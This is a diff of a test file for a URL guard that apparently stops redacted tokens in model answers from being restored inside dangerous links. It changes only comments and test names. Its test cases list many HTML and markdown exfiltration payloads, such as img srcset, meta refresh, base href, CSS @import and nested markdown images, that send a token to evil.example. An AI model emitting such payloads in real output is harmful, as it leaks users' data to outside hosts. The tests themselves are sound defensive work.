@@ -1,4 +1,4 @@
-/** Links in which a restored value ends or hides another one. */
+/** Links in which a restored value ends or hides another link. */
 import fc from 'fast-check';
 import { describe, expect, test } from 'vitest';
 import { allowedHosts, UrlGuard } from '../../core/guard/url-guard.ts';
@@ -47,7 +47,7 @@ describe('a restored value may be part of', () => {
   });
 });
 
-/** JSON that a model writes as its answer, as plain text, in a stream and in a body: what is shown of it. */
+/** JSON that a model writes as its answer, as plain text, in a stream and in a body, and how it is displayed. */
 function shownJson(json: string): string[] {
   const body = JSON.stringify({ choices: [{ index: 0, message: { role: 'assistant', content: json } }] });
   const text = new TextEncoder().encode(json);
@@ -66,7 +66,8 @@ function shownJson(json: string): string[] {
 
 describe('stays a token in JSON that is displayed raw', () => {
   test.each([
-    // Not one backslash and a quote, or not one address: these are no paths on the host of the page.
+    // These are not paths on the host of the page, because there is more than one backslash and quote, or more than one
+    // URL.
     ['<img src=\\"@evil.example/?q=', '>'],
     ['<img src=\\".evil.example/?q=', '>'],
     ['<img srcset=",&#32;https://evil.example/?q=', '>'],
@@ -76,7 +77,7 @@ describe('stays a token in JSON that is displayed raw', () => {
     ['<iframe srcdoc="&lt;img/src=\'https://evil.example/?q=', `'&gt;></iframe>`],
     ['<meta http-equiv=refresh content="0;url=https://evil.example/?q=', '>'],
     ['<rect mask="url(https://evil.example/?q=', ')>'],
-    // Nor is this where the page says what paths are relative to, or where another tag may begin inside.
+    // Nor are these: the page sets the base URL, or another tag may begin inside.
     [`<base href='https://evil.example/'><img src="?q=`, '>'],
     [`<b src='" <img srcset=//evil.example/?q=`, '>'],
     [`<img srcset='x src=`, `, /\\evil.example/?q=`],
@@ -89,7 +90,7 @@ describe('stays a token in JSON that is displayed raw', () => {
     for (const text of shownJson(json)) expect(text).toBe(json);
   });
 
-  test('nor is it in a definition after the bracket of a list', () => {
+  test('stays a token in a definition after the bracket of a list', () => {
     const json = JSON.stringify(['x', `${token}`], undefined, 1).replace(
       '"x"',
       '[ ["y"],\n"[r]: https://evil.example/"]',
@@ -119,7 +120,7 @@ describe('allowed hosts', () => {
       `[r]: https://evil.example&${entity};.good.example/?q=${token}`,
     ]),
     `![a](https://evil.example%2f.good.example/?q=${token})`,
-    // Lists, where the first address says nothing of the next.
+    // Lists, where the first URL does not decide about the next.
     `<img srcset='https://good.example/a 1x, https://evil.example/?q="${token}'>`,
     `<img srcset="https://good.example/a 1x,/\\evil.example/?q=${token}">`,
     `<link imagesrcset="https://good.example/a 1x,/\\evil.example/?q=${token}">`,
@@ -129,7 +130,7 @@ describe('allowed hosts', () => {
     `<meta content="//good.example/;url=/\\evil.example/?q=${token}">`,
     `<object archive="//good.example/a /\\evil.example/?q=${token}">`,
     `<style>@import '//good.example/';@import '/\\evil.example/?q=${token}'</style>`,
-    // Another address begins inside of what may be none.
+    // Another URL begins inside something that may not be one.
     `![a](https://good.example/ ![b](https://evil.example/?q=${token}))`,
     `![a](https://good.example/![b](https://evil.example/?q=${token})`,
     `![a](<https://good.example/ ![b](/\\evil.example/?q=${token}))`,
@@ -139,7 +140,7 @@ describe('allowed hosts', () => {
     `[a](https://good.example/ https://evil.example/?q=${token}`,
     `<b src='https://good.example/ <img src=/\\evil.example/?q=${token}>`,
     `<b t='x src="https://good.example/' srcset=/\\evil.example/?q=${token}>`,
-  ])('not %j', (text) => expect(shown(text)).toBe(text));
+  ])('not restored: %j', (text) => expect(shown(text)).toBe(text));
 
   test.each([
     `![a](https://good.example/?q=${token})`,
@@ -153,7 +154,7 @@ describe('allowed hosts', () => {
   ])('%j', (text) => expect(shown(text)).toBe(text.replace(token, original)));
 });
 
-test('any text yields the same for any split', () => {
+test('any text gives the same output for any split', () => {
   const parts =
     '< <b > " \' = ]( ( ) [ ] : / \\ // http https: \n \r\n src= t= x [r]: &#58; 。 - www. ![ ! @{ img: } <base <!E <?xml <style> --x ~ url <g> </g>'.split(
       ' ',
